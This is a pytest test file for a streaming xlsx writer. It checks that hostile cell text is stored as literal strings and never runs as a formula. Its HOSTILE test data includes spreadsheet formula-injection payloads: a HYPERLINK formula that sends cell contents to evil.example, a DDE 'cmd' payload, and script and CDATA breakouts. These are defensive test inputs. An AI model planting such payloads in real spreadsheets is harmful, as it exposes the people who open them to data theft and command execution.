"""The streaming xlsx writer: hostile text and every feature, read back with openpyxl and
opened in LibreOffice."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess
import warnings
import zipfile

import openpyxl
import pytest

from estate.render import xlsx
from estate.render.xlsx import Cell, Highlight, Print, Properties, Style, Workbook

#: text people could put in an inventory, and what a cell must read back
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click me")', None),
    ("=cmd|' /C calc'!A0", None),
    ("+1+1", None),
    ("-2+3", None),
    ("@SUM(A1:A9)", None),
    ("\t=1", None),
    ("\r=1", None),
    ("#N/A", None),
    ("#DIV/0!", None),
    ("TRUE", None),
    ("0042", None),
    ("1e5", None),
    ("Nul\x00 bell\x07 escape\x1b vertical\x0b form\x0c end", "Nul bell escape vertical form end"),
    ("half a pair \ud800 of surrogates \uffff", "half a pair  of surrogates "),
    ("]]><![CDATA[ x ]]>", None),
    ('<script>alert("x")</script>', None),
    ("&amp; &lt; & < > \" '", None),
    ("line one\nline two\r\nline three", None),
    ("  leading and trailing spaces  ", None),
    ("Emoji 🏛️ 👩🏽‍💻 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢", None),
    ("مجلس المدينة (RTL) עירייה", None),
    ("\u202eoverride\u202c", None),
    ("x" * 40000, "x" * (xlsx.MAX_CELL_TEXT - len(xlsx.CUT_NOTE)) + xlsx.CUT_NOTE),
]

FORMULA_LIKE = ("=", "+", "-", "@", "\t", "\r")


def load(path):
    with warnings.catch_warnings():
        warnings.simplefilter("error")      # a warning reading the file is a failure
        return openpyxl.load_workbook(path)


def write(path, build, properties=None):
    with Workbook(path, properties or Properties(title="t")) as wb:
        build(wb)
    return path


def test_hostile_text_reads_back_exactly_and_never_as_a_formula(tmp_path):
    def build(wb):
        ws = wb.sheet("Text", [20, 20])
        ws.append(["text", "kept"])
        for text, _ in HOSTILE:
            ws.append([text, Cell(text, Style(bold=True))])
        ws.close()

    path = write(tmp_path / "hostile.xlsx", build)
    ws = load(path)["Text"]
    for row, (text, expected) in enumerate(HOSTILE, 2):
        expected = text if expected is None else expected
        for cell in ws[row]:
            assert cell.value == expected, (row, text[:40])
            assert cell.data_type == "s"
            assert bool(cell.quotePrefix) == expected.startswith(FORMULA_LIKE), text[:40]
        assert ws.cell(row, 2).font.b
    assert len(ws.cell(len(HOSTILE) + 1, 1).value) == xlsx.MAX_CELL_TEXT
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<script>" not in sheet and "]]>" not in sheet


def test_hostile_text_in_names_titles_and_properties_is_escaped(tmp_path):
    evil = '"><x a=\'&\t\n'

    def build(wb):
        ws = wb.sheet("Data", [10, 10])
        ws.append(["Id", evil])
        ws.append([1, Cell("go", location="'Data'!A1", tooltip=evil)])
        ws.table("tblData", "A1:B2", ["Id", evil])
        ws.validation("B2:B2", "list", '"a,b"', error=evil, error_title=evil)
        ws.close()

    path = write(tmp_path / "names.xlsx", build, Properties(title=evil, subject="=1+1"))
    wb = load(path)
    ws = wb["Data"]
    assert [c.name for c in ws.tables["tblData"].tableColumns] == ["Id", evil]
    assert ws["B2"].hyperlink.tooltip == evil
    assert ws.data_validations.dataValidation[0].error == evil
    assert wb.properties.title == evil and wb.properties.subject == "=1+1"


def test_values_keep_their_types_and_formats(tmp_path):
    day = dt.date(2027, 3, 31)

    def build(wb):
        ws = wb.sheet("Values", [10] * 6, [None, Style(number_format='"£"#,##0'),
                                          Style(number_format="yyyy-mm-dd"),
                                          Style(number_format="0.0%")])
        ws.append(["n", "money", "date", "share", "flag", "when"])
        ws.append([7, 180000.5, day, 0.25, True, dt.datetime(2026, 1, 2, 12, 0)])
        ws.append([float("nan"), float("inf"), None, "not a number", False, dt.date(1900, 1, 1)])
        ws.close()

    ws = load(write(tmp_path / "v.xlsx", build))["Values"]
    row = [c for c in ws[2]]
    assert [c.value for c in row] == [7, 180000.5, dt.datetime(2027, 3, 31), 0.25, True,
                                      dt.datetime(2026, 1, 2, 12, 0)]
    assert [c.number_format for c in row[:4]] == ["General", '"£"#,##0', "yyyy-mm-dd", "0.0%"]
    third = [c.value for c in ws[3]]
    assert third[:5] == [None, None, None, "not a number", False]   # no NaN or infinity
    assert ws["D3"].number_format == "General"          # text takes no number format
    assert third[5] == dt.datetime(1900, 1, 1)


def test_every_feature_reads_back_with_openpyxl(tmp_path):
    red = Highlight(color="9C0006", fill="FFC7CE")

    def build(wb):
        ws = wb.sheet("First sheet", [12, 30, 8], [None, None, Style(number_format="yyyy-mm-dd")],
                      Print(title_columns=1, fit_width=2))
        ws.append(["Id", "Rating", "End"])
        ws.append(["a", "red", dt.date(2026, 1, 1)])
        ws.append(["b", "green", dt.date(2028, 1, 1)])
        ws.table("tblFirst", "A1:C3", ["Id", "Rating", "End"])
        ws.validation("B2:B3", "list", '"red,amber,green"', error="Choose one",
                      error_title="Rating")
        ws.validation("C2:C3", "date", "1", "109574", "between", "Enter a date")
        ws.highlight("B2:B3", "equal", ['"red"'], red)
        ws.highlight("C2:C3", "lessThan", ["46000"], red)
        ws.color_scale("A2:A3", 0, 100)
        ws.close()
        second = wb.sheet("Second", [10], print_=Print(landscape=False, fit_width=0))
        second.append([Cell("back", Style(color="0563C1", underline=True), "'First sheet'!A2",
                            "Go to a")])
        second.close()

    props = Properties(title="Estate register", subject="s", creator="estate 1.0",
                       keywords="k", description="d", category="c",
                       created=dt.datetime(2026, 11, 21))
    wb = load(write(tmp_path / "f.xlsx", build, props))
    assert wb.sheetnames == ["First sheet", "Second"]
    ws = wb["First sheet"]
    table = ws.tables["tblFirst"]
    assert table.ref == "A1:C3" and table.autoFilter.ref == "A1:C3"
    assert [c.name for c in table.tableColumns] == ["Id", "Rating", "End"]
    assert table.tableStyleInfo.name == "TableStyleMedium2" and table.tableStyleInfo.showRowStripes
    dvs = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    assert dvs["B2:B3"].type == "list" and dvs["B2:B3"].formula1 == '"red,amber,green"'
    assert dvs["B2:B3"].errorTitle == "Rating" and dvs["B2:B3"].showErrorMessage
    assert (dvs["C2:C3"].type, dvs["C2:C3"].operator, dvs["C2:C3"].formula2) == \
        ("date", "between", "109574")
    rules = {(str(r.sqref), rule.type, rule.operator, tuple(rule.formula or ())): rule
             for r in ws.conditional_formatting for rule in r.rules}
    equal = rules[("B2:B3", "cellIs", "equal", ('"red"',))]
    assert equal.dxf.fill.fgColor.rgb.endswith("FFC7CE") and equal.dxf.font.color.rgb.endswith("9C0006")
    assert ("C2:C3", "cellIs", "lessThan", ("46000",)) in rules
    scale = rules[("A2:A3", "colorScale", None, ())].colorScale
    assert [float(v.val) for v in scale.cfvo] == [0, 50, 100]
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width == 30
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 2 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$1" and ws.print_title_cols == "$A:$A"
    assert str(ws.print_area) == "'First sheet'!$A$1:$C$3"
    assert ws["C2"].is_date and ws["C2"].number_format == "yyyy-mm-dd"
    second = wb["Second"]
    assert second["A1"].hyperlink.location == "'First sheet'!A2"
    assert second["A1"].hyperlink.tooltip == "Go to a"
    assert second["A1"].font.u == "single"
    assert second.page_setup.orientation == "portrait"
    p = wb.properties
    assert (p.title, p.subject, p.creator, p.keywords, p.description, p.category) == (
        "Estate register", "s", "estate 1.0", "k", "d", "c")
    assert p.created == dt.datetime(2026, 11, 21) and p.lastModifiedBy == "estate 1.0"


def test_the_same_rows_give_the_same_bytes(tmp_path):
    def build(wb):
        ws = wb.sheet("S", [10])
        ws.append(["x"])
        ws.close()

    first = write(tmp_path / "a.xlsx", build).read_bytes()
    assert write(tmp_path / "b.xlsx", build).read_bytes() == first


def test_column_letters():
    assert [xlsx.column_letter(i) for i in (1, 26, 27, 52, 53, 702, 703)] == [
        "A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"]


OFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(not OFFICE, reason="LibreOffice is not installed")
def test_libreoffice_opens_it_and_reads_the_text_as_written(tmp_path):
    texts = [t for t, expected in HOSTILE if expected is None and len(t) < 200
             and "\n" not in t and "\r" not in t and "\t" not in t]

    def build(wb):
        ws = wb.sheet("Text", [30, 12], [None, Style(number_format="yyyy-mm-dd")])
        ws.append(["text", "date"])
        for text in texts:
            ws.append([text, dt.date(2027, 3, 31)])
        ws.table("tblText", f"A1:B{len(texts) + 1}", ["text", "date"])
        ws.close()

    path = write(tmp_path / "lo.xlsx", build)
    out = tmp_path / "csv"
    subprocess.run([OFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir",
                    str(out), str(path)], check=True, timeout=180, capture_output=True)
    rows = list(csv.reader((out / "lo.csv").read_text(encoding="utf-8").splitlines()))
    assert rows[0] == ["text", "date"]
    assert [r[0] for r in rows[1:]] == texts        # shown as written, never evaluated
    assert {r[1] for r in rows[1:]} == {"2027-03-31"}


def test_wrapped_columns_wrap_and_their_rows_are_tall_enough(tmp_path):
    def build(wb):
        ws = wb.sheet("Wrap", [10, 20], wrap=[1])
        ws.append(["short", "fits"])
        # 140 characters in a column wrapping at 28: a line holds five "word " (the
        # sixth would end at 29), so 28 words take 6 lines, not 140 / 28 = 5
        ws.append(["short", "word " * 28])
        ws.append(["x" * 100, "two\nlines"])              # column A does not wrap
        ws.close()

    ws = load(write(tmp_path / "w.xlsx", build))["Wrap"]
    assert ws["B2"].alignment.wrap_text and not ws["A2"].alignment.wrap_text
    assert ws["A2"].alignment.vertical == "top"
    assert ws.row_dimensions[1].height is None
    assert ws.row_dimensions[2].height == 6 * 16
    assert ws.row_dimensions[3].height == 2 * 16
